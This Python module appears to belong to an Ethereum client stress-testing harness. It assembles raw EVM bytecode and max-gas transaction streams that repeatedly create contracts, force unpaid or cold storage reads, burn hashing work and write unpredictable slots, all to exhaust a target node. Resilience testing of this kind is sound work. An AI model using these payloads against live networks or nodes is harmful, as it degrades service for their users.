"""Attacks by transactions: work, state and memory that their gas pays for."""

from __future__ import annotations

import time
from collections.abc import Sequence

from . import Attacker, Step, Target

CAP = 1 << 24
"""EIP-7825: most gas of one transaction."""


def forever(body: bytes) -> bytes:
    """Code that repeats ``body`` until its gas is gone."""
    return b"\x5b" + body + b"\x5f\x56"


def stream(target: Target, runtime: bytes, senders: int = 4, data: bytes = b"") -> Sequence[Step]:
    """Transactions of the greatest gas to a contract, one in flight for each of some senders."""
    contract = Attacker(target, 1).deploy(runtime)
    attackers = [Attacker(target, 2 + index) for index in range(senders)]
    return [lambda one=attacker: one.send(contract, data, CAP) for attacker in attackers]  # type: ignore[misc]


def created_accounts(target: Target) -> Sequence[Step]:
    """Transactions that bring thousands of contracts about."""
    return stream(target, forever(b"\x5f\x5f\x5f\xf0\x50"))


def unpaid_reads(target: Target) -> Sequence[Step]:
    """Children with hardly any gas that read a slot or an account each: what they cannot pay is not to be read."""
    # The child: SLOAD of its call data. The parent: MSTORE of GAS, then a call with 5 gas.
    child = Attacker(target, 1).deploy(b"\x5f\x35\x54\x00")
    body = b"\x5a\x5f\x52" + b"\x5f\x5f\x60\x20\x5f\x5f\x73" + child + b"\x60\x14\xf1\x50"
    return stream(target, forever(body))


def cold_chain(target: Target) -> Sequence[Step]:
    """Much work, and then slots that lead to each other and are in no cache."""
    slots = b"\x5a" + b"\x54\x5a\x01" * 16 + b"\x50\x00"
    busy = b"\x62\x00\xff\xff\x5f\x20\x50"  # KECCAK256 of 64 KB
    return stream(target, busy * 40 + slots)


def counters(target: Target) -> Sequence[Step]:
    """One in five transactions writes a slot whose number a counter gives: nobody can know it beforehand."""
    # n = slot 0 + 1; slot 0 = n; slot (n << 200) = n
    contract = Attacker(target, 1).deploy(bytes.fromhex("5f54600101805f558060c81b5500"))
    attackers = [Attacker(target, 2 + index) for index in range(40)]

    def send(part: Sequence[Attacker]) -> None:
        raws = []
        for number in range(500):
            one = part[number % len(part)]
            raws.append(one.sign(contract, gas=120_000) if number % 5 == 0 else one.sign(bytes(19) + b"\x33"))
        part[0].send_batch(raws)
        time.sleep(0.05)

    return [lambda part=attackers[k::4]: send(part) for k in range(4)]  # type: ignore[misc]
